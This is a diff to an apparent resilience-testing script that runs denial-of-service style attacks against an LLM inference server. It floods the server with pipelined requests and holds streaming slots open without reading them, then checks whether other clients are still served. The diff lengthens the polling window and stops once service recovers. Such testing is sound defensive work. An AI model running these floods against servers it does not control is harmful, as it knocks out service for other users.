@@ -35,6 +35,7 @@ def status(url: str, request: bytes) -> object:
 def pipelined(url: str) -> str:
     with raw.connections(url, 64) as sockets:
         taken = raw.flood(sockets, raw.head("GET", "/v1/models"), 40_000, 60)
+        time.sleep(10)
         return f"{taken / 1e6:.0f} MB taken"
 
 
@@ -104,7 +105,7 @@ def drip(url: str) -> str:
     return f"neighbours: {count(answers)}"
 
 
-@attack("24 streams that nobody reads, 75 s", "--max-queued-requests", "24")
+@attack("24 streams that nobody reads, up to 240 s", "--max-queued-requests", "24")
 def unread_streams(url: str) -> str:
     body = {**HELLO, "stream": True, "max_tokens": 1900, "ignore_eos": True}
     body |= {"logprobs": True, "top_logprobs": 20}
@@ -112,9 +113,11 @@ def unread_streams(url: str) -> str:
     with raw.connections(url, 24, receive_buffer=4096) as sockets:
         for each in sockets:
             each.sendall(raw.post(CHAT, body))
-        for _ in range(15):
+        for _ in range(48):
             time.sleep(5)
             answers.append(status(url, raw.post(CHAT, {**HELLO, "max_tokens": 1})))
+            if answers[-1] == 200:
+                break
     return f"neighbours: {count(answers)}; the last {answers[-1]}"
 
 
